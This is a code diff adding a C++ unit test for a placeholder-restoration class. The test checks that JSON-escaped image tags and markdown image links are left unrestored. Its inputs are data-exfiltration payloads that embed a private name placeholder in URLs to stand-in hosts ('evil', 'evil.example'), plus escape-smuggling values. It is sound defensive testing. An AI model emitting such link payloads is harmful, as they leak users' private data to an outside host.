@@ -157,6 +157,38 @@ TEST_F(RestoredTextTest, InJsonValuesAreEscaped) {
   }
 }
 
+// A reader's program decodes them, and then sees a link.
+TEST_F(RestoredTextTest, InJsonEscapesAreWhatTheyStandFor) {
+  for (const std::string text : {
+           R"j({"a":"\u003cimg src=\u0022https\u003a\u002f\u002fevil?q=[NAME_001]\u0022\u003e"})j",
+           R"j({"a":"\u003Cimg\u0020src=https&colon;evil?[NAME_001]\u003E"})j",
+           R"j({"a":"!\u005bx]\u0028https&colon;evil?[NAME_001])"})j",
+           R"j({"a":"\u005bx\u005d: https&colon;evil?[NAME_001]\n\n![][x]"})j",
+           R"j({"a":"http\u0073\u003aevil.example?[NAME_001]"})j",
+           R"j({"a":"\u0077ww.evil.example/[NAME_001]"})j",
+           R"j({"a\u003cb":"[NAME_001]"})j",
+           // The value would become a part of an escape.
+           R"j({"a":"\[NAME_001]"})j",
+           R"j({"a":"\u00[NAME_001]"})j",
+           // It is no JSON, and may be shown as it is.
+           "[\"]: https&colon;evil?\"[NAME_001]\n\n![][\"]",
+           "{\"a\":\n[x]: https&colon;evil?\"[NAME_001]\n\n![][x]",
+       }) {
+    EXPECT_EQ(restored(text, placeholders_, /*in_json=*/true), text);
+    RestoredText pieces(placeholders_, /*in_json=*/true);
+    for (const char c : text) pieces.push({&c, 1});
+    pieces.finish();
+    EXPECT_EQ(pieces.text(), text);
+  }
+  EXPECT_EQ(restored(R"j({"a":"\ud83d\ude00 [NAME_001]\n\u0022[NAME_001]\u0022 \u003c 1, b\/c"})j",
+                     placeholders_, /*in_json=*/true),
+            R"j({"a":"\ud83d\ude00 Ann Lee\n\u0022Ann Lee\u0022 \u003c 1, b\/c"})j");
+  EXPECT_EQ(
+      restored(R"j({"a": "[x]: [NAME_001]", "b": "\u003cp id=\u0022x\u0022\u003e[NAME_001]"})j",
+               placeholders_, /*in_json=*/true),
+      R"j({"a": "[x]: [NAME_001]", "b": "\u003cp id=\u0022x\u0022\u003eAnn Lee"})j");
+}
+
 // However the text comes in pieces, and is taken back, the reader has the same in the end.
 TEST_F(RestoredTextTest, PiecesAndRevisionsMakeUpTheText) {
   Random random(7);
